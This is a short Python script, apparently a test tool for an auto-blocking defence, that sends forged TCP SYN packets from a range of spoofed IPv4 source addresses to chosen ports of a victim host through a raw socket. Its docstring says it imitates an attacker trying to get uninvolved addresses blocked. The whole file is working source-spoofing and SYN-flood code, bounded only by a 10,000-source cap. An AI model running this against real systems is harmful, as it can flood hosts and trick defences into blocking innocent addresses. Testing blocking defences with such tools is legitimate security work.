#!/usr/bin/env python3
"""Sends forged TCP SYNs: COUNT sources FIRST, FIRST+1, ... each reaching PORTS of VICTIM, as a spoofing attacker
would to get uninvolved addresses blocked. IPv4 only, through a raw socket (root). Bounded: at most 10,000 sources.

Usage: forge_syns.py VICTIM FIRST-SOURCE COUNT PORT...
"""
import ipaddress
import random
import socket
import sys

from syn_script import packet  # the SYN builder, shared with the scripted sender


def main() -> int:
    victim, first, count = sys.argv[1], ipaddress.IPv4Address(sys.argv[2]), int(sys.argv[3])
    ports = [int(p) for p in sys.argv[4:]]
    if not 0 < count <= 10_000 or not ports:
        print("usage: forge_syns.py VICTIM FIRST-SOURCE COUNT PORT... (COUNT at most 10000)", file=sys.stderr)
        return 2
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for index in range(count):
        source = first + index
        for port in ports:
            frame = packet(source, ipaddress.IPv4Address(victim), 40000 + index % 20000, port, random.getrandbits(32))
            sock.sendto(frame, (victim, 0))
    print(f"sent {count * len(ports)} SYNs from {count} sources", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
